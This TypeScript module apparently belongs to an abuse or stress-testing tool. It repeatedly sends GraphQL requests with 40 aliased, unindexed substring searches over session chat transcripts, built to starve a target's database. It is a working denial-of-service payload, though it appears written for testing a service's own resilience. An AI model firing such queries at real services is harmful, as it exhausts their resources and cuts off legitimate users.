import { randomUUID } from "node:crypto";
import { type Abuse, headersOf, repeat, type Target } from "./abuse.js";

/**
 * One operation that makes the database look through all sessions forty times; no index helps, and no two are
 * alike.
 */
export function starvingQueries(target: Target): Abuse {
  return repeat("queries of 40 aliases", async (signal) => {
    const response = await fetch(`${target.url}/graphql`, {
      method: "POST",
      headers: headersOf(target),
      body: JSON.stringify({ query: fortyAliases() }),
      signal,
    });
    await response.arrayBuffer();
  });
}

function fortyAliases(): string {
  const parts = Array.from(
    { length: 40 },
    (_, index) =>
      `a${index}: sessions(first: 10, filter: {chatTranscript: {contains: "${randomUUID()}"}}) { totalCount nodes { id } }`,
  );
  return `{ ${parts.join(" ")} }`;
}
